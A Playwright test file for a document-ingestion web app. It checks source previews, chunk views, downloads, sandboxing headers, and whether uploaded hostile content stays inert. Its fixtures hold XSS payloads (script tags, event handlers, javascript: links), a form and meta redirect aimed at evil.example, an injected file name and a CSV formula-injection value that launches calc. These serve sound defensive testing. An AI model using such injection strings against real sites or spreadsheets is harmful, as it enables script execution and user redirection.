import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { sample } from './server';
import { expect, test } from './test';

test('a result stands beside its source, in chunks with page and headings', async ({
  page,
  client,
}) => {
  const jobId = await client.ingest('Report', [await sample('harbour-report.pdf')]);
  await page.goto(`/app/jobs/${jobId}/documents/0`);
  await expect(page.getByRole('table').getByText('Fish market')).toBeVisible();
  const source = page.locator('iframe[title="Original of harbour-report.pdf"]');
  await expect(source).toHaveAttribute('src', /\/documents\/0\/source#page=1/);

  await page.getByRole('tab', { name: 'Chunks' }).click();
  await expect(page).toHaveURL(/show=chunks/);
  await expect(page.getByText(/1 Summary/).first()).toBeVisible();
  await page.getByRole('button', { name: 'Page 2', exact: true }).first().click();
  await expect(source).toHaveAttribute('src', /#page=2/);
});

test('outputs are downloaded one by one and as an archive', async ({ page, client }) => {
  const jobId = await client.ingest('All of it', [
    { name: 'a.md', content: '# First' },
    { name: 'A.txt', content: 'Second' },
  ]);
  await page.goto(`/app/jobs/${jobId}`);
  const [archive] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download all' }).click(),
  ]);
  expect(archive.suggestedFilename()).toBe('All of it.zip');
  const zip = await readFile(await archive.path(), 'latin1');
  for (const name of ['a.md', 'a.json', 'a.chunks.jsonl', 'A-1.md']) expect(zip).toContain(name);

  await page.getByRole('button', { name: 'Download outputs of a.md' }).click();
  const [markdown] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: 'Markdown' }).click(),
  ]);
  expect(markdown.suggestedFilename()).toBe('a.md');
  expect(await readFile(await markdown.path(), 'utf8')).toContain('# First');
});

const HOSTILE = `# <img src=x onerror="window.ran='heading'">

<script>window.ran = 'script'</script>

<svg onload="window.ran='svg'"></svg> <iframe srcdoc="<script>parent.ran='frame'</script>"></iframe>

[run](javascript:window.ran='link') [RUN](JaVaScRiPt:window.ran='link') [data](data:text/html,<script>1</script>)
<javascript:window.ran='auto'> [inside](/auth/session) [mail](mailto:a@example.org) [out](https://example.org/x)

![pixel](https://tracker.example/pixel.png) ![run](javascript:window.ran='image')

| a | b |
| - | - |
| <style>body{display:none}</style> | \`<b>\` |

<form action="https://evil.example"><input name=q autofocus></form>
<meta http-equiv="refresh" content="0;url=https://evil.example">
`;

/** Nothing of a document has run, and nothing of it is there that could. */
async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { ran?: string }).ran)).toBeUndefined();
  const result = page.locator('.markdown');
  await expect(
    result.locator('script, iframe, img, svg, form, style, meta, [onerror], [onclick]'),
  ).toHaveCount(0);
  for (const link of await result.locator('a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https:|mailto:)/);
  }
}

test('a hostile document and its name run nothing and ask nobody', async ({ page, client }) => {
  const name = `"><img src=x onerror=window.ran='name'>.md`;
  const html = `<html><body><h1 onclick="window.ran=1">T</h1><p>Some words that are long enough.</p>${HOSTILE}</body></html>`;
  const jobId = await client.ingest(`<script>window.ran='job'</script>{{7*7}}`, [
    { name, content: HOSTILE },
    { name: 'page.html', content: html },
    { name: 'words.csv', content: `a,b\n=cmd|' /C calc'!A0,<img src=x onerror=window.ran=1>\n` },
  ]);
  for (const path of [
    '',
    '/documents/0',
    '/documents/0?show=markdown',
    '/documents/0?show=chunks',
    '/documents/1',
    '/documents/2',
  ]) {
    await page.goto(`/app/jobs/${jobId}${path}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    if (path) await expect(page.getByText(/pixel|Some words|cmd/).first()).toBeVisible();
    await expectHarmless(page);
  }

  // The extractor has defused much of it; the page must not need that.
  await page.route('**/documents/0/markdown', (route) => route.fulfill({ body: HOSTILE }));
  await page.goto(`/app/jobs/${jobId}/documents/0`);
  await expect(page.getByText('RUN', { exact: true })).toBeVisible();
  await expectHarmless(page);
  await expect(page.getByRole('link', { name: 'out' })).toHaveAttribute('rel', /noopener/);
  await expect(page.getByText('Image: pixel')).toBeVisible();
});

test('sources and outputs come with headers that keep them from running', async ({
  page,
  client,
}) => {
  const jobId = await client.ingest('Headers', [
    { name: 'page.html', content: '<html><body><p>Some words</p><script>1</script></body></html>' },
    await sample('harbour-report.pdf'),
  ]);
  const get = (path: string) => page.context().request.get(`/jobs/${jobId}/documents/${path}`);
  const source = (await get('0/source')).headers();
  expect(source['content-disposition']).toMatch(/^attachment/);
  expect(source['content-type']).toBe('application/octet-stream');
  expect(source['content-security-policy']).toContain('sandbox');
  expect((await get('1/source')).headers()['content-disposition']).toMatch(/^inline/);
  for (const kind of ['markdown', 'sidecar', 'chunks']) {
    const output = (await get(`0/${kind}`)).headers();
    expect(output['x-content-type-options']).toBe('nosniff');
    expect(output['content-disposition']).toMatch(/^attachment/);
  }
});
